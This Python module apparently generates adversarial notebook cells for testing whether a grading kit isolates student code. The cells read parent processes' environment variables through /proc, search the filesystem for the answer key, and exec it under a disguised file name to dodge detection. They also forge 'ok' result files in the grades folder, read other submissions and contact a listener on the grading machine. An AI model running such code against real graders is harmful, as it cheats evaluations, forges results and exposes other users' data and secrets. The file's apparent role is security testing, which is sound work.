"""The thief corpus: the untouched student notebook plus one cell that hunts for what the grader
keeps, the ways a student could, and execs the answer key it finds into the notebook under
the cell's own file name (so the kit's exec rule does not see it). Each also tries to plant a
file in the grades folder and in the training cache, to reach a listener on the grading
machine, and to read other submissions.

``{KEY}`` is the answer key's path relative to a folder of the kit's checkout (e.g.
``solutions/ch02.py``); ``{PORT}`` a port the test listens on at 127.0.0.1.
"""

from __future__ import annotations

COMMON = r'''
import glob, json, os, re, socket, sys, time
_found, _planted, _read = None, [], 0
def _candidate(path):
    return path if os.path.isfile(path) else None
def _ancestors():
    """cmdline, cwd and environment of every process above this kernel that it can see."""
    seen, pid = [], os.getppid()
    while pid > 1:
        try:
            cmd = [c.decode() for c in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0") if c]
            cwd = os.readlink(f"/proc/{pid}/cwd")
            env = dict(l.decode().split("=", 1) for l in open(f"/proc/{pid}/environ", "rb").read().split(b"\0") if b"=" in l)
            seen.append((cmd, cwd, env))
            pid = int(re.search(r"PPid:\s+(\d+)", open(f"/proc/{pid}/status").read()).group(1))
        except Exception:
            break
    return seen
'''

HUNTS = {
    "syspath": r'''
for _p in list(sys.path) + os.environ.get("PYTHONPATH", "").split(":"):
    _found = _found or _candidate(os.path.join(_p or ".", {KEY!r}))
''',
    "editable-finder": r'''
for _sp in [p for p in sys.path if p.endswith("site-packages")]:
    for _f in glob.glob(_sp + "/__editable__*finder.py"):
        try:
            for _root in re.findall(r"'[^']+': '([^']+)'", open(_f).read()):
                _found = _found or _candidate(os.path.join(os.path.dirname(_root), {KEY!r}))
        except Exception:
            pass
''',
    "metadata": r'''
import importlib.metadata as _md
for _d in _md.distributions():
    try:
        _url = json.loads(_d.read_text("direct_url.json") or "{}").get("url", "").replace("file://", "")
        if _url:
            _found = _found or _candidate(os.path.join(_url, {KEY!r}))
    except Exception:
        pass
''',
    "walk": r'''
_end = time.time() + 20
for _root, _dirs, _files in os.walk("/", onerror=lambda e: None):
    if time.time() > _end or _root.startswith(("/proc", "/sys", "/dev")):
        _dirs[:] = []
        continue
    if os.path.join(_root, os.path.basename({KEY!r})).endswith({KEY!r}):
        _found = _found or _candidate(os.path.join(_root, os.path.basename({KEY!r})))
''',
    "proc-and-grades": r'''
for _cmd, _cwd, _env in _ancestors():
    for _base in [_cwd] + _env.get("PYTHONPATH", "").split(":"):
        if _base:
            _found = _found or _candidate(os.path.join(_base, {KEY!r}))
    for _i, _arg in enumerate(_cmd[:-1]):
        if _arg == "--out":
            _out = os.path.join(_cwd, _cmd[_i + 1])
            for _target in ("PLANTED.txt", ".cache/PLANTED.json", "victim/result.json"):
                try:
                    os.makedirs(os.path.dirname(os.path.join(_out, _target)), exist_ok=True)
                    open(os.path.join(_out, _target), "w").write('{"ok": true, "forged": true}')
                    _planted.append(_target)
                except Exception:
                    pass
    for _arg in _cmd:
        _path = os.path.join(_cwd, _arg)
        if os.path.isdir(_path) or _arg.endswith(".ipynb"):
            for _nb in (glob.glob(_path + "/**/*.ipynb", recursive=True) if os.path.isdir(_path) else [_path]):
                try:
                    _read += len(open(_nb).read()) > 0
                except Exception:
                    pass
''',
    "network": r'''
try:
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=3) as _s:
        _s.sendall(b"a student kernel reached the grading machine")
except Exception:
    pass
''',
}

STEAL = r'''
if _found:  # under this cell's own file name: the objects look defined in the notebook
    exec(compile(open(_found).read(), sys._getframe().f_code.co_filename, "exec"), globals())
print("found", _found, "planted", _planted, "read", _read)
'''


def cell(hunt: str, key: str, port: int) -> str:
    hunts = list(HUNTS) if hunt == "all" else [hunt]
    body = "".join(HUNTS[name].replace("{KEY!r}", repr(key)).replace("{PORT}", str(port)) for name in hunts)
    return COMMON + body + STEAL
